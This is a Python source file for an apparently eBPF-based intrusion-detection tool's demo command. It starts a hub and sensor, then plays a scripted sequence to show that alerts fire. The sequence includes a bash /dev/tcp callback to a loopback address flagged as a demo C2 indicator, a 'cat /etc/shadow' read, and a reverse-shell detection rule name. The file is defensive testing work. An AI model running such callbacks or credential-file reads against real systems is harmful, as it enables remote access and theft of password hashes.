"""``threatseer demo``: the whole system on this machine, with an attack-like sequence.

Starts a hub with embedded defaults (the default rule bundle, SQLite profiles with a short
learning window, file and stdout outputs, the PUB tap) and a local sensor, then plays a scripted
sequence that a security engineer would want to see caught:

1. a service learns its normal behaviour (the profile engine's learning window);
2. a risky process makes a network callback (bash /dev/tcp to an address the demo's bundle
   lists as a C2 indicator);
3. a sensitive file is read (``cat /etc/shadow``);
4. the learned service does something new (reads /etc/shadow): abnormal behaviour.

Scored events are shown live, as ``threatseer tap`` shows them. After the scripted story the
demo keeps watching the machine: what it shows then is real activity scored by the untuned
default bundle, marked ``live``. Ctrl-C stops everything. ``--once`` ends after the sequence
and exits 0 only when every expected alert was seen. Configs, state and logs go to a fresh
temporary directory, removed at the end (``--workdir`` keeps them where you say).
"""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import click
import yaml
import zmq

from threatseer.common import ecs
from threatseer.common.keys import curve_client, curve_keypair, read_key, write_key_pair
from threatseer.hub import publish
from threatseer.hub.rules.bundle import default_bundle_dir
from threatseer.hub.tap import colour, summary

C2_ADDRESS = "127.0.0.66"
SERVICE = "inventory-agent"


def curve_keys(directory: Path, name: str) -> tuple[Path, Path]:
    """A CURVE key pair as ``threatseer keys gen --type curve`` writes it (secret 0600)."""
    secret, public = curve_keypair()
    return write_key_pair(directory / name, secret, public)


def signed_bundle(directory: Path) -> tuple[Path, str]:
    """The bundle at ``directory`` as an archive (beside it) signed with a new key, and that
    key's public half (base64): the demo's hub trusts only it."""
    from nacl.signing import SigningKey

    from threatseer.hub.rules.archive import build_archive, read_dir
    from threatseer.hub.rules.signing import b64, sign_archive

    key = SigningKey.generate()
    archive = directory.with_suffix(".tar.gz")
    archive.write_bytes(sign_archive(build_archive(read_dir(directory)), key))
    return archive, b64(bytes(key.verify_key))


def bundle_with_c2(src: Path, dst: Path, address: str) -> Path:
    """A copy of bundle ``src`` at ``dst`` that lists ``address`` as a C2 indicator (the demo
    calls back to it on loopback), with its own version so the hub's store accepts it."""
    shutil.copytree(src, dst)
    static = dst / "static.yaml"
    data = yaml.safe_load(static.read_text())
    data.setdefault("iocs", {}).setdefault("networks", {})[f"{address}/32"] = (
        "demo C2 address (added by threatseer demo)")
    static.write_text(yaml.safe_dump(data, sort_keys=False))
    manifest = yaml.safe_load((dst / "manifest.yaml").read_text())
    manifest["version"] = f"{manifest['version']}-demo"
    (dst / "manifest.yaml").write_text(yaml.safe_dump(manifest, sort_keys=False))
    return dst


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@dataclass
class Expectation:
    """An alert the scripted sequence must produce."""

    name: str
    indicator: str  # an indicator whose rule or type this is must be present
    match: dict[str, Any]  # flat field values the event must carry
    seen: bool = False

    def check(self, ev: dict[str, Any]) -> bool:
        if self.seen:
            return False
        if any(ev.get(k) != v for k, v in self.match.items()):
            return False
        if not any(self.indicator in (i.get("rule"), i.get("type"))
                   for i in ev.get("threatseer.indicators", ())):
            return False
        self.seen = True
        return True


class Demo:
    def __init__(self, workdir: Path, bundle_src: Path, out: Any = None,
                 as_json: bool = False, show_all: bool = False) -> None:
        self.workdir = workdir
        self.bundle_src = bundle_src
        self.out = out or sys.stdout
        self.as_json = as_json
        self.show_all = show_all
        self.procs: dict[str, subprocess.Popen] = {}
        self.stop = threading.Event()
        self.ingest = f"tcp://127.0.0.1:{free_port()}"
        self.pub = f"tcp://127.0.0.1:{free_port()}"
        self.callback_port = free_port()
        self.service = workdir / "bin" / SERVICE
        self.sensor_seen = threading.Event()
        self.story_over = False  # after it, alerts are live activity of the machine
        self.lock = threading.Lock()
        self.expect = [
            Expectation("risky process calls back", "reverse_shell_dev_tcp",
                        {"event.action": "exec", "process.name": "bash"}),
            Expectation("callback to a C2 address", "ioc",
                        {"event.action": "connect", "destination.ip": C2_ADDRESS}),
            Expectation("sensitive file read", "/etc/shadow",
                        {"event.action": "open", "file.path": "/etc/shadow",
                         "process.name": "cat"}),
            Expectation("learned service does something new", "abnormal_behavior",
                        {"event.action": "open", "file.path": "/etc/shadow",
                         "process.executable": str(self.service)}),
        ]

    # ---- setup ------------------------------------------------------------------------
    def prepare(self) -> None:
        if self.workdir.exists():
            shutil.rmtree(self.workdir)
        (self.workdir / "bin").mkdir(parents=True, mode=0o700)
        shutil.copy2("/bin/cat", self.service)
        bundle, signer = signed_bundle(
            bundle_with_c2(self.bundle_src, self.workdir / "bundle", C2_ADDRESS))
        hub = {
            "ingest": {"endpoint": self.ingest},
            "publish": {"endpoint": self.pub},
            "metrics": {"listen": ""},
            "state_dir": str(self.workdir / "hub-state"),
            "bundle": str(bundle),
            # signed by a key made for this run, as a fleet's bundles are by its own
            "admin": {"trusted_signing_keys": [signer]},
            "profiles": {"learn_seconds": 3.0, "learn_min_events": 2},
            "outputs": [
                {"type": "file", "options": {"path": str(self.workdir / "events.jsonl")}},
                {"type": "stdout", "min_score": 1},
            ],
            "log_level": "warning",
        }
        # CURVE everywhere, as on a real fleet: the hub admits this sensor's key and the
        # demo's own subscriber key, nothing else.
        keys = self.workdir / "keys"
        keys.mkdir()
        hub_secret, hub_public = curve_keys(keys, "hub")
        sensor_secret, sensor_public = curve_keys(keys, "sensor")
        self.tap_secret, tap_public = curve_keys(keys, "tap")
        self.hub_public = hub_public
        hub.update({"curve_secret_key_file": str(hub_secret),
                    "curve_allow_list": str(sensor_public),
                    "curve_subscriber_allow_list": str(tap_public)})
        sensor = {"hub": self.ingest, "health_interval_s": 5.0, "batch_latency_ms": 20,
                  "state_dir": str(self.workdir / "sensor-state"), "log_level": "warning",
                  "curve_secret_key_file": str(sensor_secret),
                  "curve_server_key": str(hub_public)}
        (self.workdir / "hub.yaml").write_text(yaml.safe_dump(hub, sort_keys=False))
        (self.workdir / "sensor.yaml").write_text(yaml.safe_dump(sensor, sort_keys=False))

    def start(self) -> None:
        exe = str(Path(sys.executable).parent / "threatseer")
        logs = self.workdir
        self.procs["hub"] = subprocess.Popen(
            [exe, "hub", "-c", str(self.workdir / "hub.yaml")],
            stdout=open(logs / "hub.stdout", "w"), stderr=open(logs / "hub.log", "w"))  # noqa: SIM115
        threading.Thread(target=self._tap, daemon=True).start()
        self.procs["sensor"] = subprocess.Popen(
            [exe, "sensor", "-c", str(self.workdir / "sensor.yaml")],
            stdout=subprocess.DEVNULL, stderr=open(logs / "sensor.log", "w"))  # noqa: SIM115
        deadline = time.monotonic() + 90
        while not self.sensor_seen.wait(0.5):
            for name, proc in self.procs.items():
                if proc.poll() is not None:
                    log = (logs / f"{name}.log").read_text()[-2000:]
                    raise click.ClickException(f"the {name} exited ({proc.returncode}): {log}")
            if time.monotonic() > deadline:
                raise click.ClickException("no event from the sensor reached the hub in 90 s")

    # ---- live view ----------------------------------------------------------------------
    def _tap(self) -> None:
        ctx = zmq.Context.instance()
        sock = ctx.socket(zmq.SUB)
        curve_client(sock, read_key(str(self.tap_secret)), read_key(str(self.hub_public)))
        sock.setsockopt(zmq.SUBSCRIBE, b"")
        sock.connect(self.pub)
        try:
            while not self.stop.is_set():
                if not sock.poll(200):
                    continue
                try:
                    _topic, events = publish.decode(sock.recv_multipart())
                except Exception:
                    continue
                for ev in events:
                    if not isinstance(ev, dict):
                        continue
                    self.sensor_seen.set()
                    self._show(ev)
        finally:
            sock.close(0)

    def _show(self, ev: dict[str, Any]) -> None:
        hits = [e for e in self.expect if e.check(ev)]
        score = ev.get("event.risk_score", 0)
        shown = ev.get("event.kind") == "alert" or (self.show_all and score > 0)
        if not shown and not hits:
            return
        with self.lock:
            if self.as_json:
                self.out.write(ecs.to_json(ev) + "\n")
            else:
                fg = colour(score, ev.get("event.kind") == "alert")
                prefix = "live " if self.story_over and not hits else ""
                click.secho(prefix + summary(ev), fg=fg, file=self.out)
                for e in hits:
                    click.secho(f"  ^ caught: {e.name}", fg="green", file=self.out)
            self.out.flush()

    def say(self, text: str) -> None:
        if not self.as_json:
            with self.lock:
                click.secho(f"[demo] {text}", bold=True, file=self.out)

    # ---- the scripted sequence ----------------------------------------------------------
    def run_sequence(self) -> None:
        self.say(f"step 1: '{SERVICE}' runs as usual while its profile learns (3 s)")
        for _ in range(4):
            self._run([str(self.service), "/etc/hostname"])
            time.sleep(1.0)
        self.say(f"step 2: bash calls back to {C2_ADDRESS}:{self.callback_port} (/dev/tcp)")
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind((C2_ADDRESS, self.callback_port))
        listener.listen(1)
        try:
            self._run(["bash", "-c",
                       f"echo beacon >/dev/tcp/{C2_ADDRESS}/{self.callback_port}"])
        finally:
            listener.close()
        self.say("step 3: someone reads /etc/shadow")
        self._run(["cat", "/etc/shadow"])
        time.sleep(1.5)  # let the learning window close on event count as well as time
        self.say(f"step 4: '{SERVICE}' suddenly reads /etc/shadow")
        self._run([str(self.service), "/etc/shadow"])

    @staticmethod
    def _run(cmd: list[str]) -> None:
        subprocess.run(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)

    def wait_expected(self, timeout: float) -> bool:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if all(e.seen for e in self.expect):
                return True
            time.sleep(0.1)
        return all(e.seen for e in self.expect)

    # ---- teardown -------------------------------------------------------------------------
    def shutdown(self) -> None:
        for name in ("sensor", "hub"):
            proc = self.procs.get(name)
            if proc is None or proc.poll() is not None:
                continue
            proc.send_signal(signal.SIGTERM)
            try:
                proc.wait(20)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
        self.stop.set()


@click.command("demo")
@click.option("--workdir", type=click.Path(file_okay=False), default=None,
              help="Keep configs, state and logs here (wiped first) [default: a temporary "
                   "directory, removed at the end].")
@click.option("--bundle", "bundle_src", type=click.Path(exists=True, file_okay=False),
              default=None, help="Rule bundle directory to start from [default: the bundle "
                                 "that ships with threatseer].")
@click.option("--once", is_flag=True,
              help="Play the sequence, report which alerts were caught, and exit (0 = all).")
@click.option("--json", "as_json", is_flag=True, help="Show scored events as JSON lines.")
@click.option("--all", "show_all", is_flag=True,
              help="Show every event with a positive score, not only alerts.")
def demo_command(workdir: str | None, bundle_src: str | None, once: bool, as_json: bool,
                 show_all: bool) -> None:
    """Run a hub and a local sensor here, play an attack-like sequence, and show the alerts.

    Needs root (the sensor loads eBPF programs). Ctrl-C stops everything cleanly.
    """
    if os.geteuid() != 0:
        raise click.ClickException("the demo runs a local sensor, which needs root (eBPF)")
    bundle = Path(bundle_src) if bundle_src else default_bundle_dir()
    if bundle is None:
        raise click.ClickException("the default rule bundle is not installed: pass --bundle DIR")
    keep = workdir is not None
    where = Path(workdir).resolve() if keep else Path(tempfile.mkdtemp(prefix="threatseer-demo-"))
    demo = Demo(where, bundle, as_json=as_json, show_all=show_all)
    interrupted = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: interrupted.set())
    try:
        demo.prepare()
        demo.say(f"starting a hub and a sensor (files in {demo.workdir})")
        demo.start()
        demo.say("sensor connected; alerts appear below (score, topic, host, who, what, "
                 "[indicators]); --all shows every scored event")
        demo.run_sequence()
        ok = demo.wait_expected(15)
        demo.story_over = True
        caught = sum(e.seen for e in demo.expect)
        demo.say(f"the scripted story is over: {caught} of {len(demo.expect)} alerts caught: "
                 + ", ".join(f"{e.name} [{'yes' if e.seen else 'NO'}]" for e in demo.expect))
        if once:
            sys.exit(0 if ok else 1)
        demo.say("from here on, lines marked 'live' are real activity on this machine, scored "
                 "by the untuned default bundle; to quiet a rule for your fleet, stack a local "
                 "rules layer with exceptions (docs/rules-local.md). Ctrl-C stops.")
        demo.say(f"the same stream: threatseer tap --endpoint {demo.pub} --server-key "
                 f"{demo.hub_public} --key {demo.tap_secret}")
        while not interrupted.wait(0.5):
            pass
    except KeyboardInterrupt:
        pass
    finally:
        with contextlib.suppress(Exception):
            demo.say("stopping sensor and hub")
        demo.shutdown()
        if not keep:
            shutil.rmtree(where, ignore_errors=True)
